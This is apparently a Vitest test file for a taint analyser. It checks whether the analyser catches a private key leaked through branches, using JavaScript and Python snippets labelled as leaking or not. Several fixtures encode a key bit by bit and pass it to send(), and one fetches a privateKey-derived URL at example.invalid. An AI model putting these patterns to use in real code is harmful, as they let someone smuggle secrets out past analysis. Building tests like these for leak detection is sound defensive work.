import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { type KeyProgram, keySentInJavaScript, keySentInPython } from './testing/keySent.ts';

/** A key that is told by the branches taken, and never handed on. */
const TOLD: readonly KeyProgram[] = [
  ['letters, by if', ``, `let s = ''; for (const c of k) { if (c === 'a') s += 'q'; else s += 'w' } send(s)`, true],
  [
    'letters, by else if',
    ``,
    `let s = ''; for (const c of k) { if (c === 'a') s += 'q'; else if (c === 'b') s += 'w'; else s += 'e' } send(s)`,
    true,
  ],
  [
    'letters, by switch',
    ``,
    `let s = ''; for (const c of k) switch (c) { case 'a': s += 'q'; break; case 'b': s += 'w'; break; default: s += 'e' } send(s)`,
    true,
  ],
  ['letters, by a condition', ``, `let s = ''; for (const c of k) s += c === 'a' ? 'q' : 'w'; send(s)`, true],
  [
    'letters, by a condition of numbers',
    ``,
    `const s = []; for (const c of k) s.push(c === 'a' ? 1 : 2); send(s)`,
    true,
  ],
  ['letters, as minified', ``, `let s = '', i = 0; for (; i < 9; i++) 'a' === k[i] && (s += 'q'); send(s)`, true],
  [
    'letters, by && and ||',
    ``,
    `let s = ''; for (const c of k) (c === 'a' && (s += 'q')) || (s += 'w'); send(s)`,
    true,
  ],
  [
    'codes that are compared',
    ``,
    `let s = ''; for (const c of k) { if (c.charCodeAt(0) > 64) s += 'q' } send(s)`,
    true,
  ],
  [
    'bits',
    ``,
    `let s = ''; for (const c of k) for (let i = 0; i < 8; i++) { if (c.charCodeAt(0) >> i & 1) s += '1'; else s += '0' } send(s)`,
    true,
  ],
  [
    'bits that a variable holds',
    ``,
    `let s = ''; for (const c of k) { const bit = c.charCodeAt(0) % 2; if (!bit) s += '1'; else s += '0' } send(s)`,
    true,
  ],
  [
    'a truth value that a variable holds',
    ``,
    `let s = ''; for (const c of k) { const is = c === 'a'; if (is) s += '1'; else s += '0' } send(s)`,
    true,
  ],
  ['bits of a number', ``, `let n = 0; for (let i = 0; i < 8; i++) { if (k[0] & (1 << i)) n |= 1 << i } send(n)`, true],
  [
    'numbers that are handed on',
    ``,
    `const s = []; for (const c of k) { if (c === 'a') s.push(1); else s.push(2) } send(s)`,
    true,
  ],
  ['for each', ``, `let s = ''; [...k].forEach((c) => { if (c === 'a') s += 'q'; else s += 'w' }); send(s)`, true],
  ['mapped', ``, `send([...k].map((c) => (c === 'a' ? 'q' : 'w')).join(''))`, true],
  ['mapped as a list is made', ``, `send(Array.from(k, (c) => (c === 'a' ? 'q' : 'w')))`, true],
  ['replaced', ``, `send(k.replace(/./g, (c) => (c === 'a' ? 'q' : 'w')))`, true],
  ['while there are letters', ``, `let s = '', i = 0; while (i < 9) { if (k[i++] === 'a') s += 'q' } send(s)`, true],
  ['by what is asked for', ``, `for (const c of k) { if (c === 'a') send('q'); else send('w') }`, true],
  [
    'in a template without parts',
    ``,
    'let s = ""; for (const c of k) { if (c === "a") s += `q`; else s += `w` } send(s)',
    true,
  ],
  ['under two tests', ``, `let s = ''; for (const c of k) { if (c > 'a') { if (c > 'g') s += 'q' } } send(s)`, true],
];

/** What nobody can tell a key from. */
const NOT_TOLD: readonly KeyProgram[] = [
  ['whether there is one', ``, `send(k ? 'yes' : 'no')`, false],
  ['what kind it is', ``, `send(k[0] === '0' ? 'hex' : 'text')`, false],
  [
    'what kind each is',
    ``,
    `const s = []; for (const one of [k]) s.push(one.kind === 'seed-phrase' ? 'q' : 'w'); send(s)`,
    false,
  ],
  ['how many letters it has', ``, `let n = 0; for (const c of k) { if (c === 'a') n += 1 } send(n)`, false],
  [
    'an error about a letter',
    ``,
    `try { for (const c of k) { if (c < 'a') throw new Error('no letter') } } catch (e) { send(e.message) }`,
    false,
  ],
  ['letters of something else', ``, `let s = ''; for (const c of 'public') { if (c === 'a') s += 'q' } send(s)`, false],
  [
    'the number of the letter',
    ``,
    `let s = ''; for (let i = 0; i < 64; i++) { if (i > 0) s += ','; use(k[i]) } send(s)`,
    false,
  ],
];

const IN_PYTHON: readonly KeyProgram[] = [
  [
    'letters, by if',
    ``,
    `s = ''\n    for c in k:\n        if c == 'a':\n            s += 'q'\n        else:\n            s += 'w'\n    send(s)`,
    true,
  ],
  [
    'letters, by elif',
    ``,
    `s = ''\n    for c in k:\n        if c == 'a':\n            pass\n        elif c == 'b':\n            s += 'w'\n    send(s)`,
    true,
  ],
  ['letters, by a condition', ``, `send(''.join('q' if c == 'a' else 'w' for c in k))`, true],
  ['letters, by a condition of numbers', ``, `send([1 if c == 'a' else 2 for c in k])`, true],
  ['letters that are left out', ``, `send(['q' for c in k if c == 'a'])`, true],
  ['letters, by and', ``, `s = []\n    for c in k:\n        c == 'a' and s.append('q')\n    send(s)`, true],
  ['letters, by a lambda', ``, `send(list(map(lambda c: 'q' if c == 'a' else 'w', k)))`, true],
  [
    'letters, by match',
    ``,
    `s = ''\n    for c in k:\n        match c:\n            case 'a':\n                s += 'q'\n            case 'b':\n                s += 'w'\n    send(s)`,
    true,
  ],
  [
    'bits',
    ``,
    `s = ''\n    for c in k:\n        for i in range(8):\n            if c >> i & 1:\n                s += '1'\n            else:\n                s += '0'\n    send(s)`,
    true,
  ],
  [
    'bits that a variable holds',
    ``,
    `s = ''\n    for c in k:\n        bit = c % 2\n        if not bit:\n            s += '1'\n    send(s)`,
    true,
  ],
  [
    'bits of a number',
    ``,
    `n = 0\n    for i in range(8):\n        if k[0] & (1 << i):\n            n |= 1 << i\n    send(n)`,
    true,
  ],
  [
    'while there are letters',
    ``,
    `s = ''\n    i = 0\n    while i < 9:\n        if k[i] == 'a':\n            s += 'q'\n        i += 1\n    send(s)`,
    true,
  ],
  ['whether there is one', ``, `send('yes' if k else 'no')`, false],
  ['what kind it is', ``, `send('hex' if k[0] == '0' else 'text')`, false],
  [
    'how many letters it has',
    ``,
    `n = 0\n    for c in k:\n        if c == 'a':\n            n += 1\n    send(n)`,
    false,
  ],
  [
    'an error about a letter',
    ``,
    `try:\n        for c in k:\n            if c == 'a':\n                raise ValueError('bad')\n    except ValueError as e:\n        send(str(e))`,
    false,
  ],
];

describe('a key told letter by letter', () => {
  it.each([...TOLD, ...NOT_TOLD])('%s', async (_, before, body, isSent) => {
    expect((await keySentInJavaScript(before, body)).length > 0).toBe(isSent);
  });
  it.each(IN_PYTHON)('in Python: %s', async (_, before, body, isSent) => {
    expect((await keySentInPython(before, body)).length > 0).toBe(isSent);
  });
  it('says so', async () => {
    const { flows } = await analyseSources({
      'a.js': `exports.main = (privateKey) => { let s = ''; for (const c of privateKey) { if (c === 'a') s += 'q' } fetch('https://example.invalid/' + s) }`,
    });
    expect(flows[0]?.points.map(({ what }) => what)).toContain('is told by the branch that is taken');
  });
});
